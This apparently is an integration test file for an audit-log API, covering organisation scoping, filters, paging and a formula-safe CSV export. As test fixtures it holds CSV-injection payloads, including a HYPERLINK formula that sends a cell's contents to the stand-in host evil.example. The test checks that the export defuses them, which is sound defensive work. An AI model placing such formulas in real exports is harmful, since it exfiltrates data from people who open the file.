import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, count, eq, or, sql } from 'drizzle-orm';
import { uuidv7 } from 'uuidv7';
import { audit, auditLog } from '../../platform/audit.js';
import { createOrg, createTestApp, signedInUser, uniq, type TestApp } from '../../../test/support/harness.js';

type Entry = {
  id: string;
  at: string;
  orgId: string | null;
  actorId: string | null;
  actorEmail: string | null;
  action: string;
  targetType: string | null;
  targetId: string | null;
  before: unknown;
  after: unknown;
  ip: string | null;
  userAgent: string | null;
  requestId: string | null;
};
type Signed = Awaited<ReturnType<typeof signedInUser>>;

let t: TestApp;
let orgA: { id: string; name: string };
let orgB: { id: string; name: string };
let padmin: Signed;
let agent: Signed;
let aAdmin: Signed;
let aUser: Signed;
let aAuditor: Signed;
let bAdmin: Signed;
let bTokenId: string;
const ghostEmail = `ghost-${uniq()}@test.example`;
const FORMULA_UA = '=HYPERLINK("http://evil.example/?x="&A1,"Click, please")';
const QUOTED_UA = 'Evil "Browser", v1';
const MICRO = ['2023-03-03 10:00:00.123456+00', '2023-03-03 10:00:00.123456+00', '2023-03-03 10:00:00.123456+00', '2023-03-03 10:00:00.123789+00', '2023-03-03 10:00:00.123001+00', '2023-03-03 10:00:00.123+00', '2023-03-03 10:00:00.122999+00'];
const DATED = ['2020-01-01T00:00:00.000Z', '2020-06-01T12:00:00.000Z', '2021-01-01T00:00:00.000Z'];

beforeAll(async () => {
  t = await createTestApp();
  const provider = await createOrg(t, 'provider');
  orgA = await createOrg(t, 'customer', `Audit A ${uniq()}`);
  orgB = await createOrg(t, 'customer', `Audit B ${uniq()}`);
  padmin = await signedInUser(t, provider.id, 'provider_admin');
  agent = await signedInUser(t, provider.id, 'provider_agent');
  aAdmin = await signedInUser(t, orgA.id, 'customer_admin');
  aUser = await signedInUser(t, orgA.id, 'customer_user');
  aAuditor = await signedInUser(t, orgA.id, 'customer_user', { granted: ['audit.read'] });
  bAdmin = await signedInUser(t, orgB.id, 'customer_admin');

  // Real activity in both organisations, some of it from hostile user agents.
  const tokA = await t.http({ method: 'POST', url: '/api/v1/me/tokens', cookie: aAdmin.cookie, headers: { 'user-agent': QUOTED_UA }, payload: { name: 'deploy, "prod"', expiresInDays: 5 } });
  expect(tokA.statusCode).toBe(201);
  const tokB = await t.http({ method: 'POST', url: '/api/v1/me/tokens', cookie: bAdmin.cookie, payload: { name: 'bravo secret automation', expiresInDays: 5 } });
  expect(tokB.statusCode).toBe(201);
  bTokenId = tokB.json().id;
  // Anyone on the internet can put a user agent into A's log with a failed sign-in.
  const failed = await t.http({ method: 'POST', url: '/api/auth/sign-in/email', headers: { 'user-agent': FORMULA_UA }, payload: { email: aUser.email, password: 'wrong password, sorry' } });
  expect(failed.statusCode).toBe(401);
  const unknown = await t.http({ method: 'POST', url: '/api/auth/sign-in/email', payload: { email: ghostEmail, password: 'whatever it is' } });
  expect(unknown.statusCode).toBe(401);
  const renamed = await t.http({ method: 'PATCH', url: '/api/v1/me', cookie: aAdmin.cookie, payload: { name: 'Ann "The Admin", Ops' } });
  expect(renamed.statusCode).toBe(200);

  // Several entries written in one transaction share the same timestamp, to the microsecond.
  const src = { actorId: aAdmin.id, actorEmail: aAdmin.email, ip: '10.0.0.1', userAgent: 'batch', requestId: `batch-${uniq()}` };
  await t.deps.db.transaction(async (tx) => {
    for (let i = 0; i < 7; i++) await audit(tx, src, { orgId: orgA.id, action: 'test.batch', targetType: 'thing', targetId: `thing-${i}` });
    await audit(tx, src, { orgId: orgA.id, action: 'test.cells', targetType: 'thing', targetId: '-2+3', after: { note: 'line one\nline two, "quoted"' } });
    await audit(tx, src, { orgId: orgA.id, action: 'test.cells', targetType: 'thing', targetId: '@SUM(A1:A9)', before: { v: 1 } });
    await audit(tx, src, { orgId: orgB.id, action: 'test.batch', targetType: 'thing', targetId: 'bravo-thing' });
  });
  // Entries at known times in the past, for time-range filters.
  for (const at of DATED) {
    await t.deps.db.insert(auditLog).values({ id: uuidv7(), at: new Date(at), orgId: orgA.id, actorId: aUser.id, actorEmail: aUser.email, action: 'test.dated', targetId: at });
  }
  await t.deps.db.insert(auditLog).values({ id: uuidv7(), at: new Date(DATED[1]!), orgId: orgB.id, action: 'test.dated', targetId: 'bravo-dated' });
  // PostgreSQL keeps microseconds (PGlite's clock does not): entries within one millisecond.
  for (const [i, at] of MICRO.entries()) {
    await t.deps.db.execute(sql`INSERT INTO audit_log (id, at, org_id, action, target_id) VALUES (${uuidv7()}, ${at}::timestamptz, ${orgA.id}, 'test.micro', ${`micro-${i}`})`);
  }
});
afterAll(async () => t?.close());

async function get(cookie: string, query: Record<string, string> = {}) {
  return t.http({ method: 'GET', url: '/api/v1/audit', cookie, query });
}

/** Every entry a caller sees for a query, paging with the given limit. */
async function all(cookie: string, query: Record<string, string> = {}, limit = 500) {
  const items: Entry[] = [];
  let cursor: string | null = null;
  let pages = 0;
  do {
    const res = await get(cookie, { ...query, limit: String(limit), ...(cursor ? { cursor } : {}) });
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json() as { items: Entry[]; nextCursor: string | null };
    expect(body.items.length).toBeLessThanOrEqual(limit);
    items.push(...body.items);
    cursor = body.nextCursor;
    if (++pages > 500) throw new Error('pagination does not end');
  } while (cursor);
  return { items, pages };
}

const dbCount = async (...where: Parameters<typeof and>) => Number((await t.deps.db.select({ n: count() }).from(auditLog).where(and(...where)))[0]!.n);

describe('who reads which audit entries', () => {
  it('a customer admin sees their own organisation’s entries, all of them, and nothing of another organisation', async () => {
    const { items } = await all(aAdmin.cookie);
    expect(items.length).toBe(await dbCount(eq(auditLog.orgId, orgA.id)));
    expect(items.length).toBeGreaterThan(15);
    expect(new Set(items.map((e) => e.orgId))).toEqual(new Set([orgA.id]));
    const text = JSON.stringify(items);
    for (const marker of [bAdmin.id, bAdmin.email, bTokenId, 'bravo-thing', 'bravo-dated', 'bravo secret automation']) expect(text).not.toContain(marker);
    expect(items.map((e) => e.action)).toEqual(expect.arrayContaining(['auth.api_token_created', 'auth.sign_in_failed', 'user.profile_updated', 'test.batch', 'test.dated']));

    // Asking for another organisation's log is 404; for their own it is the same as without.
    const other = await get(aAdmin.cookie, { orgId: orgB.id });
    expect(other.statusCode).toBe(404);
    expect(other.body).not.toContain('bravo');
    expect((await all(aAdmin.cookie, { orgId: orgA.id })).items).toEqual(items);
  });

  it('a customer user needs audit.read (delegated works), provider agents are refused, provider admins see everything', async () => {
    for (const who of [aUser, agent]) {
      const res = await get(who.cookie);
      expect(res.statusCode).toBe(403);
      expect(res.json().code).toBe('FORBIDDEN');
      const csv = await t.http({ method: 'GET', url: '/api/v1/audit/export.csv', cookie: who.cookie });
      expect(csv.statusCode).toBe(403);
      expect(csv.headers['content-type']).toMatch(/^application\/problem\+json/);
    }
    expect((await t.http({ method: 'GET', url: '/api/v1/audit' })).statusCode).toBe(401);

    const delegated = await all(aAuditor.cookie);
    expect(new Set(delegated.items.map((e) => e.orgId))).toEqual(new Set([orgA.id]));
    expect(delegated.items.length).toBe(await dbCount(eq(auditLog.orgId, orgA.id)));

    // Everything: both organisations' entries and the system-wide ones (no organisation).
    const expected = await t.deps.db.select({ id: auditLog.id }).from(auditLog).where(or(eq(auditLog.orgId, orgA.id), eq(auditLog.orgId, orgB.id), eq(auditLog.targetId, ghostEmail)));
    const everything = await all(padmin.cookie);
    expect(everything.items.map((e) => e.id)).toEqual(expect.arrayContaining(expected.map((r) => r.id)));
    const ghost = everything.items.find((e) => e.targetId === ghostEmail);
    expect(ghost).toMatchObject({ orgId: null, action: 'auth.sign_in_failed' });
    expect(JSON.stringify((await all(aAdmin.cookie)).items)).not.toContain(ghostEmail);
    const onlyB = await all(padmin.cookie, { orgId: orgB.id });
    expect(onlyB.items.length).toBe(await dbCount(eq(auditLog.orgId, orgB.id)));
    expect(onlyB.items.every((e) => e.orgId === orgB.id)).toBe(true);
    expect(onlyB.items.map((e) => e.targetId)).toEqual(expect.arrayContaining([bTokenId, 'bravo-thing', 'bravo-dated']));
  });
});

describe('filters and pages', () => {
  it('filter by action (exact and prefix), by actor and by time range', async () => {
    const exact = await all(aAdmin.cookie, { action: 'test.batch' });
    expect(exact.items).toHaveLength(7);
    expect(exact.items.every((e) => e.action === 'test.batch' && e.orgId === orgA.id)).toBe(true);

    const prefix = await all(aAdmin.cookie, { action: 'test.*' });
    expect(prefix.items).toHaveLength(7 + 2 + 3 + MICRO.length);
    expect(new Set(prefix.items.map((e) => e.action))).toEqual(new Set(['test.batch', 'test.cells', 'test.dated', 'test.micro']));
    const auth = await all(aAdmin.cookie, { action: 'auth.*' });
    expect(auth.items.length).toBeGreaterThan(0);
    expect(auth.items.every((e) => e.action.startsWith('auth.'))).toBe(true);
    // LIKE wildcards in the filter are not wildcards.
    expect((await all(aAdmin.cookie, { action: '%' })).items).toHaveLength(0);
    expect((await all(aAdmin.cookie, { action: '_est.*' })).items).toHaveLength(0);
    expect((await all(aAdmin.cookie, { action: 'no.such.action' })).items).toHaveLength(0);

    const byActor = await all(aAdmin.cookie, { actorId: aUser.id });
    expect(byActor.items.length).toBe(await dbCount(eq(auditLog.orgId, orgA.id), eq(auditLog.actorId, aUser.id)));
    expect(byActor.items.every((e) => e.actorId === aUser.id)).toBe(true);
    expect(byActor.items.map((e) => e.action)).toEqual(expect.arrayContaining(['test.dated', 'auth.sign_in']));
    // An actor of another organisation gives nothing, even though they have entries.
    expect((await all(aAdmin.cookie, { actorId: bAdmin.id })).items).toHaveLength(0);

    const range = await all(aAdmin.cookie, { from: '2020-03-01T00:00:00Z', to: '2020-12-31T23:59:59Z' });
    expect(range.items.map((e) => e.targetId)).toEqual([DATED[1]]);
    // Both ends are inclusive, and offsets are honoured.
    const inclusive = await all(aAdmin.cookie, { from: DATED[0]!, to: '2020-06-01T14:00:00+02:00' });
    expect(inclusive.items.map((e) => e.targetId)).toEqual([DATED[1], DATED[0]]);
    const upTo2021 = await all(aAdmin.cookie, { to: '2021-06-01T00:00:00Z' });
    expect(upTo2021.items.map((e) => e.targetId)).toEqual([DATED[2], DATED[1], DATED[0]]);
    const combined = await all(aAdmin.cookie, { from: '2020-01-01T00:00:00Z', action: 'test.dated', actorId: aUser.id });
    expect(combined.items).toHaveLength(3);
    expect((await all(aAdmin.cookie, { from: '2021-01-01T00:00:00Z', to: '2020-01-01T00:00:00Z' })).items).toHaveLength(0);
    const recent = await all(aAdmin.cookie, { from: '2022-01-01T00:00:00Z' });
    expect(recent.items.length).toBe((await all(aAdmin.cookie)).items.length - 3);

    for (const [query, path] of [
      [{ from: 'yesterday' }, 'querystring.from'],
      [{ to: '2020-01-01' }, 'querystring.to'],
      [{ actorId: 'someone' }, 'querystring.actorId'],
      [{ limit: '0' }, 'querystring.limit'],
      [{ limit: '501' }, 'querystring.limit'],
      [{ sort: 'asc' }, 'querystring.sort'],
    ] as [Record<string, string>, string][]) {
      const res = await get(aAdmin.cookie, query);
      expect(res.statusCode, JSON.stringify(query)).toBe(400);
      expect(res.json().code).toBe('VALIDATION_FAILED');
      expect(res.json().errors[0].path).toBe(path);
    }
  });

  it('pages newest first with no duplicates and no gaps, also across entries with the same timestamp', async () => {
    const full = (await all(aAdmin.cookie)).items;
    const ats = full.map((e) => Date.parse(e.at));
    expect(ats).toEqual([...ats].sort((x, y) => y - x));
    for (const limit of [1, 2, 3, 5]) {
      const paged = await all(aAdmin.cookie, {}, limit);
      const ids = paged.items.map((e) => e.id);
      expect(new Set(ids).size, `limit ${limit}: duplicates`).toBe(ids.length);
      expect(ids, `limit ${limit}`).toEqual(full.map((e) => e.id));
      expect(paged.pages).toBe(Math.ceil(full.length / limit));
    }
    // With a filter, too.
    const batch = await all(aAdmin.cookie, { action: 'test.batch' }, 2);
    expect(batch.items.map((e) => e.targetId).sort()).toEqual([0, 1, 2, 3, 4, 5, 6].map((i) => `thing-${i}`));
    expect(batch.pages).toBe(4);
    // Entries that share a millisecond (or a microsecond) are neither skipped nor repeated.
    const micro = (await all(aAdmin.cookie, { action: 'test.micro' })).items.map((e) => e.targetId);
    expect([...micro].sort()).toEqual(MICRO.map((_, i) => `micro-${i}`));
    expect(micro.slice(0, 1)).toEqual(['micro-3']); // .123789 is the newest
    expect(micro.at(-1)).toBe('micro-6'); // .122999 the oldest
    for (const limit of [1, 2, 3, 4]) {
      expect((await all(aAdmin.cookie, { action: 'test.micro' }, limit)).items.map((e) => e.targetId), `micro, limit ${limit}`).toEqual(micro);
    }
    // The provider's view of one organisation pages the same way.
    const provider = (await all(padmin.cookie, { orgId: orgA.id })).items.map((e) => e.id);
    expect(provider).toEqual(full.map((e) => e.id));
    expect((await all(padmin.cookie, { orgId: orgA.id }, 7)).items.map((e) => e.id)).toEqual(provider);
  });

  it('refuses a cursor it did not issue with 400 naming cursor', async () => {
    const orgsCursor = (await t.http({ method: 'GET', url: '/api/v1/orgs', cookie: padmin.cookie, query: { limit: '1' } })).json().nextCursor as string;
    expect(orgsCursor).toBeTruthy();
    const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
    for (const cursor of ['garbage!', 'e30', b64(['2024-01-01T00:00:00.000Z']), b64(['not a time', uuidv7()]), b64(['2024-02-30T00:00:00.000Z', uuidv7()]), b64(['2024-01-01T24:00:00Z', uuidv7()]), b64(['2024-01-01T00:00:00.000Z', 'not-an-id']), orgsCursor]) {
      const res = await get(aAdmin.cookie, { cursor });
      expect(res.statusCode, cursor).toBe(400);
      expect(res.json().code).toBe('VALIDATION_FAILED');
      expect(res.json().errors[0].path).toBe('query.cursor');
    }
  });
});

/** An RFC 4180 parser: rows of cells, quotes and line breaks inside quoted cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') {
      expect(cell, 'a quote inside an unquoted cell').toBe('');
      quoted = true;
    } else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    } else if (ch === '\n' || ch === '\r') throw new Error(`bare line break at ${i}`);
    else cell += ch;
  }
  expect(quoted).toBe(false);
  if (cell !== '' || row.length) row.push(cell), rows.push(row);
  return rows;
}

const COLUMNS = ['at', 'orgId', 'actorEmail', 'actorId', 'action', 'targetType', 'targetId', 'ip', 'userAgent', 'requestId', 'before', 'after'] as const;

describe('CSV export', () => {
  it('sends text/csv with a header and one properly escaped, formula-safe row per entry', async () => {
    const res = await t.http({ method: 'GET', url: '/api/v1/audit/export.csv', cookie: aAdmin.cookie });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="portico-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(res.body);
    expect(rows[0]).toEqual([...COLUMNS]);
    const entries = (await all(aAdmin.cookie)).items;
    expect(rows.length - 1).toBe(entries.length);
    expect(rows.length - 1).toBe(await dbCount(eq(auditLog.orgId, orgA.id)));

    const unsafe = /^[=+\-@\t\r]/;
    entries.forEach((e, i) => {
      const cells = rows[i + 1]!;
      expect(cells).toHaveLength(COLUMNS.length);
      COLUMNS.forEach((c, j) => {
        const v = e[c];
        const raw = v === null || v === undefined ? '' : typeof v === 'string' ? v : JSON.stringify(v);
        expect(cells[j], `${e.action} ${c}`).toBe(unsafe.test(raw) ? `'${raw}` : raw);
        expect(cells[j]).not.toMatch(unsafe);
      });
    });
    expect(res.body).not.toContain('bravo');
    expect(rows.every((r) => r[1] === orgA.id || r === rows[0])).toBe(true);

    // The hostile values, spelled out.
    expect(res.body).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click, please"")",`);
    expect(res.body).toContain(`,"Evil ""Browser"", v1",`);
    expect(res.body).toContain(`,'-2+3,`);
    expect(res.body).toContain(`,'@SUM(A1:A9),`);
    expect(res.body).toContain(`"{""note"":""line one\\nline two, \\""quoted\\""""}"`);
    const formula = rows.find((r) => r[8]!.includes('HYPERLINK'))!;
    expect(formula[4]).toBe('auth.sign_in_failed');
    expect(formula[8]).toBe(`'${FORMULA_UA}`);
  });

  it('applies the same filters and scope, and refuses list-only parameters', async () => {
    const res = await t.http({ method: 'GET', url: '/api/v1/audit/export.csv', cookie: aAdmin.cookie, query: { action: 'test.dated', from: '2020-03-01T00:00:00Z' } });
    expect(res.statusCode).toBe(200);
    const rows = parseCsv(res.body);
    expect(rows.slice(1).map((r) => r[6])).toEqual([DATED[2], DATED[1]]);

    const empty = await t.http({ method: 'GET', url: '/api/v1/audit/export.csv', cookie: aAdmin.cookie, query: { action: 'no.such.action' } });
    expect(empty.statusCode).toBe(200);
    expect(parseCsv(empty.body)).toEqual([[...COLUMNS]]);

    expect((await t.http({ method: 'GET', url: '/api/v1/audit/export.csv', cookie: aAdmin.cookie, query: { orgId: orgB.id } })).statusCode).toBe(404);
    const cursor = await t.http({ method: 'GET', url: '/api/v1/audit/export.csv', cookie: aAdmin.cookie, query: { cursor: 'x' } });
    expect(cursor.statusCode).toBe(400);
    expect(cursor.json().errors[0].path).toBe('querystring.cursor'); // not a parameter of the export

    const provider = await t.http({ method: 'GET', url: '/api/v1/audit/export.csv', cookie: padmin.cookie, query: { orgId: orgB.id } });
    expect(provider.statusCode).toBe(200);
    expect(parseCsv(provider.body).length - 1).toBe(await dbCount(eq(auditLog.orgId, orgB.id)));
  });
});

describe('append-only', () => {
  it('refuses UPDATE, DELETE and TRUNCATE from any code path and leaves the entry unchanged', async () => {
    const [row] = await t.deps.db.select().from(auditLog).where(and(eq(auditLog.orgId, orgA.id), eq(auditLog.action, 'auth.api_token_created')));
    expect(row).toBeTruthy();
    const total = await dbCount(eq(auditLog.orgId, orgA.id));
    const refused = (e: unknown) => /append-only/.test(String((e as { cause?: { message?: string } }).cause?.message ?? (e as Error).message));

    await expect(t.deps.db.execute(sql`UPDATE audit_log SET action = 'auth.nothing_happened', actor_email = NULL WHERE id = ${row!.id}`)).rejects.toSatisfy(refused);
    await expect(t.deps.db.execute(sql`DELETE FROM audit_log WHERE id = ${row!.id}`)).rejects.toSatisfy(refused);
    await expect(t.deps.db.execute(sql`DELETE FROM audit_log`)).rejects.toSatisfy(refused);
    await expect(t.deps.db.execute(sql`TRUNCATE audit_log`)).rejects.toSatisfy(refused);
    await expect(t.deps.db.update(auditLog).set({ orgId: orgB.id }).where(eq(auditLog.id, row!.id))).rejects.toSatisfy(refused);
    await expect(t.deps.db.delete(auditLog).where(eq(auditLog.orgId, orgA.id))).rejects.toSatisfy(refused);
    // Inside a transaction the whole transaction fails.
    await expect(
      t.deps.db.transaction(async (tx) => {
        await audit(tx, { actorId: null, actorEmail: null, ip: null, userAgent: null, requestId: null }, { orgId: orgA.id, action: 'test.cover_up' });
        await tx.execute(sql`DELETE FROM audit_log WHERE id = ${row!.id}`);
      }),
    ).rejects.toSatisfy(refused);

    const [after] = await t.deps.db.select().from(auditLog).where(eq(auditLog.id, row!.id));
    expect(after).toEqual(row);
    expect(await dbCount(eq(auditLog.orgId, orgA.id))).toBe(total);
    expect(await dbCount(eq(auditLog.action, 'test.cover_up'))).toBe(0);
    // Appending still works.
    const res = await t.http({ method: 'POST', url: '/api/v1/me/sessions/revoke-others', cookie: aAdmin.cookie });
    expect(res.statusCode).toBe(200);
    expect(await dbCount(eq(auditLog.orgId, orgA.id))).toBe(total + 1);
  });
});
